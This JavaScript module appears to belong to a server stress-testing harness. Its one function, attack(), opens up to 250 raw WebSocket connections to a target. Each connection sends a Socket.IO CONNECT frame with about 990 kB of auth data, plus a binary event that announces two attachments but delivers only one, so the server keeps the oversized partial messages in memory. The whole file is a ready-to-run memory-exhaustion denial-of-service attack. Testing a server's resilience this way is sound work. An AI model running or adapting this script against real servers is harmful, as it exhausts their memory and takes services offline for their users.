// Connections that make the server keep what they sent: a CONNECT with 990 kB of auth, and a binary event half of whose attachments come.
import { RawSocket, frame } from '../websocket.js';

export const what = '250 connections with 990 kB of auth, 990 kB of event and one of two attachments of 990 kB';

const count = scale => Math.max(10, 250 * scale);
export const connections = count;

const megabyte = 'x'.repeat(990_000);

export async function attack({ target, seconds, scale }) {
  const open = [];
  const end = Date.now() + seconds * 1000;
  let closed = 0;
  for (let n = 0; n < count(scale) && Date.now() < end; n++) {
    const raw = await RawSocket.open(target).catch(() => null);
    if (!raw) continue;
    raw.tcp.once('close', () => closed++);
    raw.tcp.write(frame(`40{"x":"${megabyte}"}`));
    raw.tcp.write(frame(`452-["x","${megabyte}",{"_placeholder":true,"num":0},{"_placeholder":true,"num":1}]`));
    raw.tcp.write(frame(megabyte, 'binary'));
    open.push(raw);
  }

  await new Promise(resolve => setTimeout(resolve, Math.max(0, end - Date.now())));
  open.forEach(raw => raw.tcp.destroy());
  return { connections: open.length, closed };
}
